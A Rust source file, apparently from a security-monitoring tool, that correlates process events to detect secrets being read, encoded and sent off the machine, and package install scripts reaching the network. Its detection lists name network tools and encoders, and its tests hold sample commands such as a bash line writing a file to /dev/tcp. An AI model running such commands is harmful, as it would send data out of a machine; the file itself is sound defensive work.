//! Detections that follow acts across the process tree and time: a secret read, then encoded,
//! then sent; a package manager's install script reaching for the network. Each is fed the
//! records in time order and hands back those that became its evidence.
use std::collections::VecDeque;

use warden_records::events::{Event, Record, Verdict};

use crate::detections::{
    CREDENTIAL_FILES, Context, Correlator, Paths, another_process_secrets, program_name,
    read_matches,
};

/// How long after reading a secret sending it still counts as one act.
const EXFIL_WINDOW_NS: u64 = 120_000_000_000;
/// How much earlier than the read a pipeline's other stages may start.
const PIPELINE_SLACK_NS: u64 = 5_000_000_000;

/// Programs that send data off the machine.
const EGRESS_TOOLS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync",
    "ftp", "tftp", "http", "https", "aria2c",
];

/// Programs that encode, pack or encrypt data on its way out.
const ENCODERS: &[&str] = &[
    "base64", "base32", "basenc", "xxd", "od", "hexdump", "openssl", "gpg", "gzip", "bzip2", "xz",
    "zstd", "zip", "tar", "7z", "uuencode",
];

/// Package managers whose install steps run code from the packages they fetch, with the
/// subcommands that do.
const INSTALLERS: &[(&str, &[&str])] = &[
    ("npm", &["install", "i", "ci", "add", "rebuild", "update"]),
    ("pnpm", &["install", "i", "add", "rebuild", "update"]),
    ("yarn", &["install", "add", "upgrade"]),
    ("npx", &[]),
    ("pip", &["install", "download", "wheel"]),
    ("pip3", &["install", "download", "wheel"]),
    ("uv", &["pip", "sync", "add"]),
    ("poetry", &["install", "add", "update"]),
    ("gem", &["install"]),
    ("bundle", &["install"]),
    ("composer", &["install", "require", "update"]),
    ("cargo", &["build", "b", "check", "c", "install"]),
];

/// The program of an exec (run or refused), and its argv.
fn exec_of(e: &Event) -> Option<&[String]> {
    match e {
        Event::Exec(x) => Some(&x.argv),
        Event::ExecRequest(x) if x.verdict == Verdict::Deny => Some(&x.argv),
        _ => None,
    }
}

fn runs(argv: &[String], programs: &[&str]) -> bool {
    argv.first()
        .is_some_and(|a| programs.contains(&program_name(a)))
}

/// An egress program, or a shell opening a connection itself (bash's `/dev/tcp/H/P`).
fn sends(argv: &[String]) -> bool {
    runs(argv, EGRESS_TOOLS)
        || argv
            .iter()
            .any(|a| a.contains("/dev/tcp/") || a.contains("/dev/udp/"))
}

fn encodes(argv: &[String]) -> bool {
    runs(argv, ENCODERS)
        || argv.first().is_some_and(|p| {
            let p = program_name(p);
            (p.starts_with("python") || p == "perl" || p == "ruby" || p == "node")
                && argv
                    .iter()
                    .any(|a| a.contains("b64") || a.contains("base64"))
        })
}

/// A record that sends data out: an egress program run (or refused), or a connection that is
/// not a lookup through the session's DNS proxy.
fn egress(e: &Event) -> bool {
    match e {
        Event::NetConnect(n) | Event::NetSend(n) => n.rule != "dns-proxy",
        e => exec_of(e).is_some_and(sends),
    }
}

fn secret_read(e: &Event, paths: &Paths) -> bool {
    read_matches(e, CREDENTIAL_FILES, paths) || another_process_secrets(e, paths)
}

/// A record a correlator keeps, for as long as it may still join a finding.
struct Kept {
    record: Record,
    proc: Option<usize>,
}

/// A secret read, then (within the window, by a related process) sent out, maybe encoded on
/// the way: the reads, the encoders and the sends.
#[derive(Default)]
pub struct SecretThenEgress {
    reads: VecDeque<Kept>,
    encoders: VecDeque<Kept>,
    /// Sends of the last few seconds: a pipeline's sender may exec just before its reader
    /// opens the secret.
    sends: VecDeque<Kept>,
}

/// Records kept per kind, at most: a session reading secrets in a loop must not make each
/// send cost more (the newest are kept).
const MAX_KEPT: usize = 1024;

/// Drops what is older than `window` before `now` (kept in time order, oldest first), and the
/// oldest beyond [`MAX_KEPT`].
fn expire(kept: &mut VecDeque<Kept>, now: u64, window: u64) {
    while kept.len() > MAX_KEPT
        || kept
            .front()
            .is_some_and(|k| now.saturating_sub(k.record.boot_ns) > window)
    {
        kept.pop_front();
    }
}

impl Correlator for SecretThenEgress {
    fn push(&mut self, r: &Record, proc: Option<usize>, cx: &Context) -> Vec<Record> {
        let now = r.boot_ns;
        expire(&mut self.reads, now, EXFIL_WINDOW_NS);
        expire(&mut self.encoders, now, EXFIL_WINDOW_NS);
        expire(&mut self.sends, now, PIPELINE_SLACK_NS);
        let related = |k: &Kept| match (k.proc, proc) {
            (Some(a), Some(b)) => cx.lineage.related(a, b),
            _ => false,
        };
        let kept = || Kept {
            record: r.clone(),
            proc,
        };
        if secret_read(&r.event, cx.paths) {
            // Sends that started just before it, with the encoders between.
            let sends: Vec<Record> = self
                .sends
                .iter()
                .filter(|k| related(k))
                .map(|k| k.record.clone())
                .collect();
            self.reads.push_back(kept());
            if sends.is_empty() {
                return Vec::new();
            }
            let mut hits = vec![r.clone()];
            hits.extend(
                self.encoders
                    .iter()
                    .filter(|k| related(k))
                    .map(|k| k.record.clone()),
            );
            hits.extend(sends);
            return hits;
        }
        if exec_of(&r.event).is_some_and(encodes) {
            self.encoders.push_back(kept());
            return Vec::new();
        }
        if !egress(&r.event) {
            return Vec::new();
        }
        self.sends.push_back(kept());
        let reads: Vec<Record> = self
            .reads
            .iter()
            .filter(|k| related(k))
            .map(|k| k.record.clone())
            .collect();
        if reads.is_empty() {
            return Vec::new();
        }
        let mut hits = reads;
        hits.extend(
            self.encoders
                .iter()
                .filter(|k| related(k))
                .map(|k| k.record.clone()),
        );
        hits.push(r.clone());
        hits
    }
}

/// Whether `argv` is a package manager installing (running its packages' scripts).
fn installs(argv: &[String]) -> bool {
    // A script's argv starts with its interpreter (`node /usr/bin/npm install`).
    let Some(at) = argv
        .iter()
        .take(3)
        .position(|a| INSTALLERS.iter().any(|(name, _)| *name == program_name(a)))
    else {
        return python_pip_install(argv);
    };
    let name = program_name(&argv[at]);
    let subcommands = INSTALLERS
        .iter()
        .find(|(n, _)| *n == name)
        .map_or(&[][..], |(_, s)| *s);
    let rest = &argv[at + 1..];
    subcommands.is_empty()
        || (name == "yarn" && rest.is_empty())
        || rest
            .iter()
            .find(|a| !a.starts_with('-'))
            .is_some_and(|sub| subcommands.contains(&sub.as_str()))
}

/// `python3 -m pip install ...`.
fn python_pip_install(argv: &[String]) -> bool {
    argv.first()
        .is_some_and(|p| program_name(p).starts_with("python"))
        && argv
            .windows(3)
            .any(|w| w[0] == "-m" && w[1] == "pip" && w[2] == "install")
}

/// A network program run by a process that a package manager's install started: install
/// scripts that download or open connections on their own.
#[derive(Default)]
pub struct InstallScriptNetwork;

impl Correlator for InstallScriptNetwork {
    fn push(&mut self, r: &Record, proc: Option<usize>, cx: &Context) -> Vec<Record> {
        let started_by_install = || {
            proc.is_some_and(|p| {
                cx.lineage
                    .ancestors(p)
                    .any(|a| a.images.iter().any(|argv| installs(argv)))
            })
        };
        if exec_of(&r.event).is_some_and(sends) && started_by_install() {
            vec![r.clone()]
        } else {
            Vec::new()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn install_steps_are_told_from_other_package_manager_runs() {
        let cases: &[(&[&str], bool)] = &[
            (&["npm", "install"], true),
            (&["npm", "ci"], true),
            (
                &["/usr/bin/node", "/usr/bin/npm", "install", "left-pad"],
                true,
            ),
            (&["npm", "--silent", "i"], true),
            (&["npm", "test"], false),
            (&["npm", "run", "build"], false),
            (&["npx", "some-tool"], true),
            (&["yarn"], true),
            (&["yarn", "test"], false),
            (&["pip", "install", "-r", "requirements.txt"], true),
            (&["pip", "list"], false),
            (&["python3", "-m", "pip", "install", "x"], true),
            (&["python3", "-m", "pytest"], false),
            (&["cargo", "build", "--release"], true),
            (&["cargo", "test"], false),
            (&["gem", "install", "rails"], true),
            (&["make"], false),
        ];
        for (words, want) in cases {
            assert_eq!(installs(&argv(words)), *want, "{words:?}");
        }
    }

    #[test]
    fn egress_and_encoders_are_named_by_program() {
        assert!(sends(&argv(&["/usr/bin/curl", "-d", "@-", "h"])));
        assert!(sends(&argv(&[
            "bash",
            "-c",
            "cat f > /dev/tcp/10.0.0.1/80"
        ])));
        assert!(!sends(&argv(&["cargo", "build"])));
        assert!(encodes(&argv(&["base64", "-w0"])));
        assert!(encodes(&argv(&[
            "python3",
            "-c",
            "import base64,sys;print(base64.b64encode(sys.stdin.buffer.read()))"
        ])));
        assert!(!encodes(&argv(&["python3", "setup.py"])));
    }
}
